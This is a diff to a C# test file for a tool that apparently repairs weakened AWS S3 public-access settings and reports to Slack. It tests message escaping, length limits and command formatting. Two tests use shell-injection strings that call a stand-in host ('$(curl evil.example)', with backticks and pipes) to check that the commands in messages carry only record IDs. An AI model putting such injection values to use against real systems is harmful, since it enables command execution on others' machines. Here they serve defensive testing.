@@ -22,7 +22,8 @@ public sealed class NoticeTests
         string agent = "aws-cli/2",
         string gate = "",
         bool quiet = false,
-        string retries = ""
+        string retries = "",
+        bool hasWritten = true
     ) =>
         $$"""
             {"eventName":"MODIFY","dynamodb":{"SequenceNumber":"{{sequence}}","OldImage":{"status":{"S":"{{oldStatus}}"} },
@@ -34,7 +35,9 @@ public sealed class NoticeTests
             )}}"},"status":{"S":"{{status}}"},"guardrail":{"S":"s3-public-access-block-weakened"},
               "resource":{"S":"{{resource}}"},"account":{"S":"111122223333"},"region":{"S":"us-east-1"},"partition":{"S":"aws"},"eventId":{"S":"e"},"eventName":{"S":"PutBucketPublicAccessBlock"},"eventTime":{"S":"2026-01-02T03:04:05Z"},
               "actor":{"M":{"type":{"S":"IAMUser"},"arn":{"S":"arn:aws:iam::111122223333:user/example"},"userAgent":{"S":"{{agent}}"},"sourceIp":{"S":"192.0.2.7"} } },
-              "violation":{"S":"open"},"reason":{"S":""},"plan":{"L":[]},"done":{"L":[{"M":{"call":{"S":"s3:PutPublicAccessBlock {}"},"requestId":{"S":"r"} } }]},"gate":{"S":"{{gate}}"},"quiet":{"BOOL":{{(
+              "violation":{"S":"open"},"reason":{"S":""},"plan":{"L":[]},"done":{"L":[{{(
+                hasWritten ? """{"M":{"call":{"S":"s3:PutPublicAccessBlock {}"},"requestId":{"S":"r"} } }""" : null
+            )}}]},"gate":{"S":"{{gate}}"},"quiet":{"BOOL":{{(
                 quiet ? "true" : "false"
             )}}},"retries":{"S":"{{retries}}"},"before":{"S":"{}"},"after":{"S":"{}"} } } }
             """;
@@ -126,14 +129,14 @@ public sealed class NoticeTests
     }
 
     [Theory]
-    [InlineData("war", "somebody keeps doing it", "remediate exempt add")]
-    [InlineData("breaker", "too many repairs", "remediate exempt add")]
-    [InlineData("pause", "paused", "remediate resume")]
-    [InlineData("people", "Somebody must act", "remediate exempt add")]
+    [InlineData("storm", "too many repairs", "remediate exempt add --record ")]
+    [InlineData("fault", "our own repairs fail", "remediate exempt add --record ")]
+    [InlineData("pause", "paused", "remediate status")]
+    [InlineData("people", "Somebody must act", "remediate exempt add --record ")]
     public async Task A_hold_says_which_gate_held_and_what_to_do(string gate, string says, string command)
     {
         using var slack = new Slack();
-        await Handle(slack.Url, Record("1", "held", gate: gate));
+        await Handle(slack.Url, Record("1", "held", gate: gate, hasWritten: false));
         var message = Assert.Single(slack.Messages);
         Assert.Contains(says, message, StringComparison.Ordinal);
         Assert.Contains(command, message, StringComparison.Ordinal);
@@ -167,12 +170,135 @@ public sealed class NoticeTests
     }
 
     [Fact]
-    public async Task A_message_that_Slack_refuses_does_not_block_the_next()
+    public async Task A_notice_that_Slack_refuses_is_counted_and_told_in_our_own_words()
     {
+        const string chosen = "arn:aws:s3:::$(curl evil.example)";
         using var slack = new Slack((400, null));
-        var (failed, _) = await Handle(slack.Url, Record("1", "applied"), Record("2", "applied"));
+        var (failed, log) = await Handle(slack.Url, Record("1", "applied", resource: chosen), Record("2", "applied"));
+        Assert.Empty(failed);
+        Assert.Equal(2, slack.Messages.Count);
+        var minimal = (string)Assert.Single(JsonNode.Parse(slack.Messages[0])!.AsObject()).Value!;
+        Assert.Matches(
+            "^🔧 Repaired: [A-Za-z' ]+\\. Slack refused the notice of it; "
+                + "`remediate history [0-9a-f]{12}-[0-9TZ]{16}-[0-9a-f]{10}` has all\\.$",
+            minimal
+        );
+        Assert.Contains("\"RefusedNotices\":1", log, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_notice_that_Slack_refuses_twice_does_not_block_the_next()
+    {
+        using var slack = new Slack((400, null), (400, null));
+        var (failed, log) = await Handle(slack.Url, Record("1", "applied"), Record("2", "applied"));
         Assert.Empty(failed);
         Assert.Single(slack.Messages);
+        Assert.Contains("was refused twice and is dropped", log, StringComparison.Ordinal);
+    }
+
+    // What escaping makes longest, what is no letter, half letters, and what is empty.
+    [Theory]
+    [InlineData("&", 100_000)]
+    [InlineData("&", 460)]
+    [InlineData("<", 2_000)]
+    [InlineData("_", 2_000)]
+    [InlineData("`", 2_000)]
+    [InlineData("\ud83d\ude00", 2_000)]
+    [InlineData("x", 499)]
+    [InlineData("x", 500)]
+    [InlineData("x", 501)]
+    [InlineData("", 1)]
+    public void Slacks_limits_hold_after_escaping_whatever_anybody_chose(string sign, int times)
+    {
+        var chosen = string.Concat(Enumerable.Repeat(sign, times));
+        var record = Recorded(chosen);
+        foreach (var outcome in new[] { Outcome.Applied, Outcome.Held, Outcome.Failed, Outcome.Unclear })
+        {
+            var message = SlackMessage.Of(new(record with { Outcome = outcome }), guardrail: null);
+            AssertFits(JsonNode.Parse(message.ToJsonString())!);
+        }
+    }
+
+    [Theory]
+    [InlineData("&&&&&", 14, "&amp;&amp;…")]
+    [InlineData("&&", 10, "&amp;&amp;")]
+    [InlineData("&&", 9, "&amp;…")]
+    [InlineData("abc", 3, "abc")]
+    [InlineData("abcd", 3, "ab…")]
+    [InlineData("a\ud83d\ude00b", 3, "a…")]
+    [InlineData("", 3, "")]
+    public void A_text_is_cut_between_signs(string text, int limit, string cut)
+    {
+        Assert.Equal(cut, SlackText.Plain(text, limit));
+        Assert.Equal($"```{cut}```", SlackText.Block(text, limit));
+    }
+
+    [Theory]
+    [InlineData(Outcome.Applied)]
+    [InlineData(Outcome.Held)]
+    [InlineData(Outcome.Failed)]
+    public void A_command_names_a_record_by_its_id_and_nothing_that_somebody_chose(string outcome)
+    {
+        const string chosen = "$(curl evil.example);`id`|& 'x' \"y\"";
+        var message = SlackMessage.Of(new(Recorded(chosen) with { Outcome = outcome }), null).ToJsonString(Plain);
+        var commands = System.Text.RegularExpressions.Regex.Matches(message, "`(remediate [^`]*)`");
+        Assert.NotEmpty(commands);
+        Assert.All(
+            commands,
+            command =>
+                Assert.Matches(
+                    "^remediate (undo|history|exempt add --record) [0-9a-f]{12}-[0-9TZ]{16}-[0-9a-f]{10}$",
+                    command.Groups[1].Value
+                )
+        );
+    }
+
+    private static readonly System.Text.Json.JsonSerializerOptions Plain = new()
+    {
+        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
+    };
+
+    // Every text of it is what somebody else chose.
+    private static LedgerRecord Recorded(string chosen) =>
+        new()
+        {
+            Id = RecordId.Of("g", chosen, "e", DateTimeOffset.UnixEpoch),
+            Outcome = Outcome.Applied,
+            Guardrail = chosen,
+            Resource = new(chosen, chosen, $"arn:aws:iam::111122223333:user/{chosen}/x", chosen, "us-east-1", "aws"),
+            EventId = chosen,
+            EventName = chosen,
+            EventTime = DateTimeOffset.UnixEpoch,
+            Actor = new(chosen, chosen, chosen, chosen, chosen),
+            Mode = Mode.Enforce,
+            Violation = chosen,
+            Reason = chosen,
+            Plan = [chosen, chosen],
+            Done = [new(chosen, chosen) { Note = chosen }],
+            Before = chosen,
+            After = chosen,
+            Owner = chosen,
+            Lease = DateTimeOffset.UnixEpoch,
+            StartedAt = DateTimeOffset.UnixEpoch,
+        };
+
+    // https://api.slack.com/reference/block-kit/blocks
+    private static void AssertFits(JsonNode message)
+    {
+        Assert.InRange(((string)message["text"]!).Length, 1, 4_000);
+        Assert.InRange(message["blocks"]!.AsArray().Count, 1, 50);
+        foreach (var block in message["blocks"]!.AsArray())
+        {
+            if ((string)block!["type"]! == "header")
+            {
+                Assert.InRange(((string)block["text"]!["text"]!).Length, 1, 150);
+                continue;
+            }
+            if (block["text"] is { } text)
+                Assert.InRange(((string)text["text"]!).Length, 1, 3_000);
+            foreach (var field in block["fields"]?.AsArray() ?? [])
+                Assert.InRange(((string)field!["text"]!).Length, 1, 2_000);
+        }
     }
 
     [Fact]
